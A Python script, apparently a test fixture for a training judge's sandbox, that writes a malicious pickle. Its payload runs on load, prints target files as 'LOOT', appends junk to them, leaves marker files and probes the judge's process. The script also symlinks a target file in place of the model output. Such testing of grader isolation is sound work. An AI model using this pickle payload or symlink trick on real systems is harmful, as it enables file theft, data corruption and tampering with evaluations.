"""A training script whose model is a pickle with a payload: it runs wherever the pickle is loaded.

It also leaves links and a pipe in place of the files that the judge will take away.
"""

import contextlib
import json
import os
import pickle
import sys

PAYLOAD = """
import os
for path in {files!r}:
    try:
        print("LOOT", open(path).read())
    except OSError:
        pass
    try:
        open(path, "a").write("spoilt")
    except OSError:
        pass
try:
    open({watched!r} + "/payload", "w").close()
except OSError:
    pass
try:
    os.kill({judge!r}, 0)
    open("killed", "w").close()
except OSError:
    pass
"""


class Payload:
    """Runs code when it is unpickled."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def main():
    with open("targets.json") as file:
        targets = json.load(file)
    known = {key: targets[key] for key in ("files", "watched", "judge")}
    code = PAYLOAD.format(**known)
    options = dict(zip(sys.argv[1::2], sys.argv[2::2], strict=True))
    exec(code)
    with open(options["--out"], "wb") as file:
        pickle.dump(Payload(code), file)
    with contextlib.suppress(OSError):
        os.symlink(targets["files"][0], options["--onnx"])


main()
